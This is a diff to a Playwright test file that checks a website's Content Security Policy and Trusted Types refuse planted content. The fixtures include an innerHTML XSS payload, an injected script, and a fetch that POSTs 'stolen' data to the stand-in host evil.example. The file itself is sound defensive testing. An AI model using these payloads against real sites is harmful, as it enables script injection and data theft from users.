@@ -1,7 +1,8 @@
 import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { expect, test } from './test.ts';
+import type { Page } from '@playwright/test';
+import { expect, test } from '../browser/test.ts';
 
 const pages = [
   '/',
@@ -14,8 +15,8 @@ const pages = [
   '/nothing-here',
 ];
 
-/** What the browser reports as refused, each once, while `action` runs in the page. */
-async function refusals(page: import('@playwright/test').Page, action: () => unknown): Promise<string[]> {
+/** Runs `action` in the page and waits until the browser has reported these refusals, each told once, and no other. */
+async function expectRefused(page: Page, action: () => unknown, ...directives: unknown[]): Promise<void> {
   await page.evaluate(() => {
     Object.assign(window, { refused: [] });
     addEventListener('securitypolicyviolation', (event) => {
@@ -23,9 +24,8 @@ async function refusals(page: import('@playwright/test').Page, action: () => unk
     });
   });
   await page.evaluate(action).catch(() => undefined);
-  const read = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused);
-  await expect.poll(read).not.toEqual([]);
-  return [...new Set(await read())].sort();
+  const read = () => page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)].sort());
+  await expect.poll(read).toEqual(directives);
 }
 
 test.describe('under the enforced policy', () => {
@@ -47,8 +47,7 @@ test.describe('under the enforced policy', () => {
     }
   });
 
-  test('the next page is there before the click, and still not one refusal', async ({ page, isMobile }) => {
-    test.skip(isMobile, 'there is nothing to hover over on a phone');
+  test('the next page is there before the click, and still not one refusal', { tag: '@desk' }, async ({ page }) => {
     await page.goto('/');
     const prefetched = page.context().waitForEvent('request', (request) => request.url().endsWith('/cgu'));
     await page.locator('footer a[href="/cgu"]').hover();
@@ -75,59 +74,75 @@ test.describe('what an attacker plants is refused:', () => {
   });
 
   test('an inline script from a script', async ({ page }) => {
-    const refused = await refusals(page, () => {
-      const script = document.createElement('script');
-      script.append('window.planted = 1');
-      document.body.append(script);
-    });
-    expect(refused.join()).toMatch(/require-trusted-types-for|script-src-elem/);
+    await expectRefused(
+      page,
+      () => {
+        const script = document.createElement('script');
+        script.append('window.planted = 1');
+        document.body.append(script);
+      },
+      'require-trusted-types-for',
+    );
     expect(await page.evaluate(() => 'planted' in window)).toBe(false);
   });
 
   test('markup through innerHTML', async ({ page }) => {
-    const refused = await refusals(page, () => {
-      document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
-    });
-    expect(refused).toEqual(['require-trusted-types-for']);
+    await expectRefused(
+      page,
+      () => {
+        document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
+      },
+      'require-trusted-types-for',
+    );
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   });
 
   test('a policy that would make markup trusted', async ({ page }) => {
-    const refused = await refusals(page, () => {
-      const { trustedTypes } = window as unknown as {
-        trustedTypes: { createPolicy(name: string, rules: object): void };
-      };
-      trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
-    });
-    expect(refused).toEqual(['trusted-types']);
+    await expectRefused(
+      page,
+      () => {
+        const { trustedTypes } = window as unknown as {
+          trustedTypes: { createPolicy(name: string, rules: object): void };
+        };
+        trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
+      },
+      'trusted-types',
+    );
   });
 
   test('a frame of another site', async ({ page }) => {
-    const refused = await refusals(page, () => {
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/';
-      document.body.append(frame);
-    });
-    expect(refused).toEqual(['frame-src']);
+    await expectRefused(
+      page,
+      () => {
+        const frame = document.createElement('iframe');
+        frame.src = 'https://evil.example/';
+        document.body.append(frame);
+      },
+      'frame-src',
+    );
   });
 
   test('a request to another site', async ({ page }) => {
-    const refused = await refusals(page, () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }));
-    expect(refused).toEqual(['connect-src']);
+    await expectRefused(page, () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }), 'connect-src');
   });
 
   test('a script, a style, an image and a form of another site', async ({ page }) => {
-    const refused = await refusals(page, () => {
-      const style = document.createElement('link');
-      Object.assign(style, { rel: 'stylesheet', href: 'https://evil.example/style.css' });
-      const image = new Image();
-      image.src = 'https://evil.example/pixel.png';
-      const form = document.createElement('form');
-      form.action = 'https://evil.example/';
-      document.body.append(style, image, form);
-      form.submit();
-    });
-    expect(refused).toEqual(['form-action', 'img-src', 'style-src-elem']);
+    await expectRefused(
+      page,
+      () => {
+        const style = document.createElement('link');
+        Object.assign(style, { rel: 'stylesheet', href: 'https://evil.example/style.css' });
+        const image = new Image();
+        image.src = 'https://evil.example/pixel.png';
+        const form = document.createElement('form');
+        form.action = 'https://evil.example/';
+        document.body.append(style, image, form);
+        form.submit();
+      },
+      'form-action',
+      'img-src',
+      'style-src-elem',
+    );
   });
 
   test('a frame around this site', async ({ page, baseURL }) => {
